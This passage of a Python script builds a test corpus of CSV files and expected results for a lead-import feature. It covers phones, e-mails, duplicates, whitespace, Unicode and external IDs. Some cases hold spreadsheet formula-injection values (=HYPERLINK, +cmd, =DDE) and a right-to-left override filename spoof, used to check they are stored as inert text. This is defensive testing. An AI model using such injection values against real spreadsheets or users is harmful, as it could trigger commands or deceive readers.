        row += 1
    return imported(
        len(INVALID_EMAILS) + 1,
        EMAIL_FIRST,
        job(len(INVALID_EMAILS) + 1, 1, errors=errors),
        leads=[lead({"first_name": "Valid"}, email="valid@example.com")],
    )


PHONES = [
    ("(415) 555-2671", None),
    ("abc", INVALID_PHONE),
    ("12", INVALID_PHONE),
    ("555-0100", None),
    ("555-0100 call me", INVALID_PHONE),
    ("+1 (555) 01OO", INVALID_PHONE),
    ("١٢٣٤٥٦٧", INVALID_PHONE),  # Arabic-Indic digits
    ("\uff11\uff12\uff13\uff14\uff15\uff16\uff17", INVALID_PHONE),  # full-width digits
    ("+44 20 7946 0958", None),
    ("415-555-2671 x12", None),
    ("tel:+14155552671", INVALID_PHONE),
    ("n/a", MISSING),
    ("#12", INVALID_PHONE),
]


def _phones() -> bytes:
    return table(["Phone", "Name"], [[p, f"P{i}"] for i, (p, _) in enumerate(PHONES)]).encode()


DUPLICATES = [
    ["jane@example.com", "Jane", "Acme"],
    ["JANE@example.com", "", "Acme Corp"],
    ["john@example.com", "John", ""],
    [" Jane@Example.com ", "Janet", ""],
]


def _many_rows() -> tuple[bytes, dict[str, Any]]:
    """1,000 rows from a seed: 2 % invalid e-mails, about 1 in 7 repeating an earlier lead."""
    rng = random.Random(5)
    rows: list[list[str]] = []
    errors: list[dict[str, Any]] = []
    seen: set[str] = set()
    created = updated = 0
    for i in range(1000):
        row = i + 2
        if i % 50 == 49:
            email = f"broken-{i}.example.com"
            errors.append(error(row, INVALID_EMAIL, email))
        elif seen and rng.random() < 1 / 7:
            email = sorted(seen)[rng.randrange(len(seen))].upper()
        else:
            email = f"lead{i:04d}@example.com"
        key = email.lower()
        if "@" in email:
            if key in seen:
                updated += 1
            else:
                seen.add(key)
                created += 1
        rows.append([email, f"First {i}", f"Company {rng.randrange(100)}"])
    data = table(["Email", "First Name", "Company"], rows).encode()
    expect = imported(
        1000,
        by(fields={"First Name": "first_name", "Company": "company"}),
        job(1000, created, updated, errors=errors),
    )
    return data, expect


MANY_DATA, MANY_EXPECT = _many_rows()

EXTERNAL_IDS = [
    ("CRM-001", None),
    (" crm-001 ", None),  # trimmed, case kept: another id than CRM-001
    ("CRM-001", "update"),
    ("X" * 256, INVALID_IDENTIFIER),
    ("ID\x0bWITH-VT", INVALID_IDENTIFIER),
    ("null", MISSING),
    ("", MISSING),
]


def _external_ids() -> bytes:
    return table(
        ["External ID", "Name"], [[v, f"N{i}"] for i, (v, _) in enumerate(EXTERNAL_IDS)]
    ).encode()


CELLS: list[Case] = [
    Case(
        "formula_cells.csv",
        "formula-like cells (=HYPERLINK, +cmd, -1+1, @SUM, =DDE) are kept verbatim as text",
        _formulas,
        imported(
            6,
            by(
                fields={
                    "Company": "company",
                    "Title": "title",
                    "Notes": "notes",
                    "Website": "website",
                }
            ),
            job(
                6,
                2,
                errors=[
                    error(4, INVALID_EMAIL, '=HYPERLINK("mailto:x@example.com")'),
                    error(5, INVALID_EMAIL, "-1+1"),
                    error(6, INVALID_EMAIL, "@SUM(A1:A2)"),
                    error(7, INVALID_EMAIL, "+15550100"),
                ],
            ),
            sample_rows=[
                [
                    "jane@example.com",
                    FORMULAS["hyperlink"],
                    FORMULAS["cmd"],
                    FORMULAS["arith"],
                    FORMULAS["sum"],
                ],
                ["john@example.com", FORMULAS["dde"], "=1+1", "\t=2+2", "'=3+3"],
                ['=HYPERLINK("mailto:x@example.com")', "x", "", "", ""],
                ["-1+1", "x", "", "", ""],
                ["@SUM(A1:A2)", "x", "", "", ""],
            ],
            leads=[
                lead(
                    {
                        "company": FORMULAS["hyperlink"],
                        "title": FORMULAS["cmd"],
                        "notes": FORMULAS["arith"],
                        "website": FORMULAS["sum"],
                    },
                    email="jane@example.com",
                ),
                # Profile values are trimmed: the leading tab of "\t=2+2" goes. A ' before a
                # formula-like start is dropped (the mark errors.csv writes: docs/api.md).
                lead(
                    {
                        "company": FORMULAS["dde"],
                        "title": "=1+1",
                        "notes": "=2+2",
                        "website": "=3+3",
                    },
                    email="john@example.com",
                ),
            ],
        ),
    ),
    Case(
        "emoji_and_rtl.csv",
        "emoji (ZWJ sequences, skin tones, flags), Arabic / Hebrew, bidi controls, IDN e-mail",
        _emoji_rtl,
        imported(
            3,
            by(
                fields={
                    "First Name": "first_name",
                    "Last Name": "last_name",
                    "Company": "company",
                    "Notes": "notes",
                }
            ),
            job(3, 3),
            leads=[
                lead(
                    {
                        "first_name": "👩🏽‍💻 Jane",
                        "last_name": "O\u2019Brien 🚀",
                        "company": "شركة الأمل",
                        "notes": "\u202eevil.exe\u202c ok",
                    },
                    email="jane@example.com",
                ),
                lead(
                    {
                        "first_name": "דוד",
                        "last_name": "כהן",
                        "company": "\u200fחברה בע״מ\u200e",
                        "notes": "שלום world 123",
                    },
                    email="david@example.com",
                ),
                lead(
                    {
                        "first_name": "José",
                        "last_name": "Núñez",
                        "company": "🏳️‍🌈 Co",
                        "notes": "zero\u200bwidth",
                    },
                    email="josé@example.com",
                ),
            ],
        ),
    ),
    Case(
        "junk_placeholders.csv",
        "placeholders in the identifier column (null, N/A, -, #N/A, ...) are a missing identifier",
        _placeholders,
        imported(
            len(PLACEHOLDERS) + 1,
            EMAIL_FIRST,
            job(
                len(PLACEHOLDERS) + 1,
                1,
                errors=[error(i + 2, MISSING, value) for i, value in enumerate(PLACEHOLDERS)],
            ),
            leads=[lead({"first_name": "Real"}, email="real@example.com")],
        ),
    ),
    Case(
        "invalid_emails.csv",
        "malformed e-mail addresses, each reported as written",
        _invalid_emails,
        _invalid_emails_expect(),
    ),
    Case(
        "invalid_phones.csv",
        "phone as the primary identifier: letters, too few digits, non-ASCII digits",
        _phones,
        imported(
            len(PHONES),
            by(column="Phone", kind="phone", fields={"Name": "first_name"}),
            job(
                len(PHONES),
                sum(1 for _, e in PHONES if e is None),
                errors=[error(i + 2, e, p) for i, (p, e) in enumerate(PHONES) if e is not None],
            ),
            leads=[
                lead({"first_name": "P0"}, phone="+14155552671"),
                lead({"first_name": "P3"}, phone="555-0100"),
                lead({"first_name": "P8"}, phone="+442079460958"),
            ],
        ),
    ),
    Case(
        "external_id_primary.csv",
        "external_id primary: trimmed, case kept; over 255 characters or a control character fail",
        _external_ids,
        imported(
            len(EXTERNAL_IDS),
            by(column="External ID", kind="external_id", fields={"Name": "first_name"}),
            job(
                len(EXTERNAL_IDS),
                2,
                1,
                errors=[
                    error(i + 2, e, v)
                    for i, (v, e) in enumerate(EXTERNAL_IDS)
                    if e not in (None, "update")
                ],
            ),
            leads=[
                lead({"first_name": "N2"}, external_id="CRM-001"),
                lead({"first_name": "N1"}, external_id="crm-001"),
            ],
        ),
    ),
    Case(
        "duplicate_emails.csv",
        "one e-mail four times in different case and spacing: first creates, later update",
        lambda: table(["Email", "First Name", "Company"], DUPLICATES).encode(),
        imported(
            4,
            by(fields={"First Name": "first_name", "Company": "company"}),
            job(4, 2, 2),
            leads=[
                lead({"first_name": "Janet", "company": "Acme Corp"}, email="jane@example.com"),
                lead({"first_name": "John"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "whitespace_only_cells.csv",
        "cells of spaces, tabs and no-break spaces: empty for fields and identifiers",
        utf8(
            "Email,First Name,Company\n"
            "jane@example.com,   ,Acme\n"
            "   ,John,John Co\n"
            "  ,  ,  \n"
            "\t,Tab,Tab Co\n"
            "\u00a0,Nbsp,Nbsp Co\n"
            " john@example.com ,John, \t \n"
        ),
        imported(
            5,
            by(fields={"First Name": "first_name", "Company": "company"}),
            job(
                5,
                2,
                errors=[
                    error(3, MISSING, "   "),
                    error(5, MISSING, "\t"),
                    error(6, MISSING, "\u00a0"),
                ],
            ),
            leads=[
                lead({"company": "Acme"}, email="jane@example.com"),
                lead({"first_name": "John"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "invalid_aliases.csv",
        "invalid or placeholder alias cells do not fail the row: warnings",
        utf8(
            "Email,Mobile,Other Email\n"
            "jane@example.com,call me,jane.alt@example.com\n"
            "john@example.com,N/A,not-an-email\n"
            "ann@example.com,(415) 555-2671,\n"
        ),
        imported(
            3,
            by(aliases={"Mobile": "_alias_phone", "Other Email": "_alias_email"}),
            job(
                3,
                3,
                warnings=[
                    {"row": 2, "warning": f"Alias not added: {INVALID_PHONE}", "value": "call me"},
                    {
                        "row": 3,
                        "warning": f"Alias not added: {INVALID_EMAIL}",
                        "value": "not-an-email",
                    },
                ],
            ),
        ),
    ),
    Case(
        "thousand_rows_mixed.csv",
        "1,000 seeded rows: 2 % invalid e-mails, repeats of earlier leads in other case",
        raw(MANY_DATA),
        MANY_EXPECT,
    ),
]


CASES: list[Case] = [*REJECTED, *ENCODINGS, *STRUCTURE, *SIZES, *CELLS]


def case_names() -> list[str]:
    return [case.name for case in CASES]


def manifest() -> dict[str, Any]:
    return {case.name: {"about": case.about, **case.expect} for case in CASES}


def write_corpus(out: Path) -> dict[str, Any]:
    """Write every file and ``expected.json`` into ``out``; return the manifest."""
    names = case_names()
    assert len(names) == len(set(names)), "duplicate case names"
    out.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (out / case.name).write_bytes(case.build())
    expected = manifest()
    (out / MANIFEST).write_text(
        json.dumps(expected, indent=2, ensure_ascii=False, sort_keys=True) + "\n",
        encoding="utf-8",
    )
    return expected


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output folder")
    args = parser.parse_args(argv)
    expected = write_corpus(args.out)
    print(f"wrote {len(expected)} files and {MANIFEST} to {args.out}")


if __name__ == "__main__":
    main()
